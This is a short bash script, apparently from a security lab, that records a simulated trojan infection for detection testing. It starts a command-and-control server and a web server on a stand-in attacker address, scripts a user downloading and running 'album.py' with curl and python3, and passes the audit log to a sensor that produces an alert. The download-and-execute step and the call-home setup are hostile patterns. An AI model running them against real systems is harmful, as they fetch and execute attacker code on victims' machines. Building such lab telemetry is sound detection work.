#!/bin/bash
# Records the sample fork-bomb. Run as root on a machine of your own; results in /opt/lab/out/fork-bomb.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" desk-17 10.20.0.39 ""

install -d -o $OUT_UID "$RUN/attacker"
cp "$RUN/album.py" "$RUN/attacker/"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8080 "$RUN/seen.json" 2901212 "LAB TROJAN call home among many processes" who list copy read
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80
sample_end() { rm -f /tmp/.b; }

lab_audit_on RAW 500 1
lab_noise_on 7
sleep 14
lab_terminal kenji <<TYPED
2 ls
2 curl -s -O http://$BAD_IP/album.py
3 python3 album.py
20 ls -la Documents
TYPED
sleep 6
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" plain "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
